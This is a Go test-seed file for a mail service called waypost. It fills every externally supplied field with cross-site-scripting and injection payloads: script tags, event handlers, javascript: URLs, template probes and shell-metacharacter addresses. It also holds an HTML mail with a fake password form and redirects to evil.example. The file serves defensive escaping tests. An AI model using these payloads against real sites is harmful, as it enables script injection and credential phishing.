package seed

import (
	"context"
	"time"

	"github.com/waypost-mail/waypost"
	"github.com/waypost-mail/waypost/internal/store"
)

// Hostile is a text that does harm in a page that does not escape it: it
// leaves attributes and elements, runs script, and loads from elsewhere.
const Hostile = `"'></title></textarea></script><script>window.pwned=1</script><img src=x onerror="window.pwned=2"><svg onload=window.pwned=3></svg><iframe src="javascript:parent.pwned=4"></iframe><a href="javascript:window.pwned=5">x</a>{{.}}${7*7}`

// HostileMail makes an installation in which every text that comes from
// outside is hostile: content and headers of mail, replies of servers, what an
// agent says of itself, names that people gave. The HTML of the mail loads an
// image from the address given.
func HostileMail(ctx context.Context, s store.Store, now time.Time, image string) (*Scene, error) {
	c := begin(ctx, s, now)
	c.install()
	c.people()
	c.provider("x"+Hostile, "h"+Hostile, 1000)
	c.domain("acme-shop.example", false)
	p := c.Providers[0]
	c.do("agent", func() error {
		return s.AgentSeen(ctx, waypost.Agent{Provider: p.ID, ID: Hostile, Version: Hostile, Hostname: Hostile, MTA: Hostile, LastSeen: c.now.Add(-2 * time.Hour)})
	})
	c.do("provider event", func() error {
		return s.AddProviderEvent(ctx, &waypost.ProviderEvent{Provider: p.ID, At: c.now.Add(-time.Minute), Kind: waypost.BreakerOpened, Text: Hostile})
	})
	c.do("pause", func() error {
		return s.SetPause(ctx, waypost.Pause{Account: c.Account.ID, Provider: p.ID, Mailbox: 0, Reason: Hostile, At: c.now})
	})
	c.do("records", func() error {
		_, err := s.ChangeDomain(ctx, c.Domains[0].SubAccount, c.Domains[0].ID, func(d *waypost.SenderDomain) error {
			for i := range d.Records {
				d.Records[i].Found, d.Records[i].Failure, d.Records[i].Value = Hostile, Hostile, Hostile
			}
			return nil
		})
		return err
	})
	c.do("webhook", func() error {
		return s.CreateWebhook(ctx, &waypost.Webhook{Account: c.Account.ID, UUID: waypost.NewUUID(now), URL: "https://x/" + Hostile, State: waypost.WebhookDisabled, DisabledReason: Hostile, Created: c.now, Updated: c.now})
	})
	c.hostileMessage(image)
	return c, c.err
}

func (c *Scene) hostileMessage(image string) {
	at := c.now.Add(-10 * time.Minute)
	content := c.content(Hostile, at)
	content.From.Name, content.ReplyTo, content.PreText = Hostile, waypost.Address{Name: Hostile, Email: "r@acme-shop.example"}, Hostile
	content.HTML = `<html><body>` + Hostile + `<img src="` + image + `"><link rel="stylesheet" href="` + image + `"><div style="background:url(` + image + `)">styled</div><script>parent.window.pwned=6;top.location="https://evil.example/"</script><form action="https://evil.example/"><input name="password"><button>Log in</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/"></body></html>`
	content.Text = Hostile
	content.Headers = []waypost.Header{{Name: "X-Hostile", Value: Hostile}}
	content.Groups = []string{Hostile}
	content.Attachments = []waypost.Attachment{{Filename: Hostile + ".html", ContentType: "text/html", Data: []byte(Hostile)}}
	m := c.message(&content, 0, at)
	m.Recipient = "x'&{}|`$*/=?^@gmail.com"
	m.To, m.Groups, m.Variables = waypost.Address{Name: Hostile, Email: m.Recipient}, content.Groups, []byte(`{"a":"</pre><script>window.pwned=8</script>"}`)
	lane := waypost.Lane{Provider: m.Provider, Mailbox: m.Mailbox}
	c.do("hostile message", func() error {
		return c.s.Accept(c.ctx, &store.Acceptance{Content: content, Messages: []waypost.Message{m}, Events: []waypost.Event{event(&m, waypost.CSProcessed, at)}, Queue: []store.Waiting{{Lane: lane, Message: m.ID, Due: at}}})
	})
	c.do("hostile attempt", func() error {
		claimed, err := c.s.Claim(c.ctx, store.Claim{Lane: lane, Now: at, Max: 1, LeaseUntil: at.Add(time.Hour), Burst: true})
		if err != nil || len(claimed.Entries) == 0 {
			return err
		}
		attempt := waypost.Attempt{Message: m.ID, N: 1, Provider: m.Provider, At: at, Took: time.Second, Result: waypost.AttemptTransient, Stage: Hostile, Code: 451, Enhanced: Hostile, Text: Hostile}
		return c.s.Settle(c.ctx, &store.Settlement{Entry: claimed.Entries[0].Entry, Message: m, Retry: at.Add(time.Minute), Attempt: &attempt, Transcript: &waypost.Transcript{
			Attempt: 1, Remote: Hostile, TLS: Hostile, Cipher: Hostile, Steps: []waypost.TranscriptStep{{Name: Hostile, Failed: true, Code: 451, Text: Hostile}},
		}})
	})
	var facts []store.Fact
	for _, t := range []waypost.EventType{waypost.CSDelivered, waypost.CSHardBounced, waypost.CSOpen, waypost.CSClick} {
		e := event(&m, t, at.Add(time.Duration(t)*time.Second))
		e.Recipient = `"<script>window.pwned=7</script>"@gmail.com`
		e.Text, e.Enhanced, e.Reason, e.Rule, e.Queue, e.Relay = Hostile, Hostile, waypost.Reason(Hostile), Hostile, waypost.QueueID(Hostile), Hostile
		if t == waypost.CSOpen || t == waypost.CSClick {
			e.Visit = &waypost.Visit{URL: "javascript:window.pwned=9//" + Hostile, IP: Hostile, UserAgent: Hostile, Machine: Hostile}
		}
		facts = append(facts, store.Fact{Event: e})
	}
	facts = append(facts, store.Fact{Event: waypost.Event{Message: m.ID, Account: m.Account, At: at, Enhanced: Hostile, Text: Hostile}, Deferral: true})
	c.do("hostile reports", func() error {
		_, err := c.s.SaveReport(c.ctx, &store.Report{
			ID: waypost.NewUUID(at), Hash: [16]byte{1}, Received: at, Account: m.Account, SubAccount: m.SubAccount, Message: m.ID, Provider: m.Provider,
			Envelope: Hostile, Kind: Hostile, Recipient: Hostile, Verdict: store.VerdictHard, Text: Hostile, Note: Hostile, Status: store.ReportEvidence, Raw: []byte("Subject: " + Hostile + "\r\n\r\n" + Hostile),
		}, facts)
		return err
	})
	c.Messages["hostile"] = m.ID
}
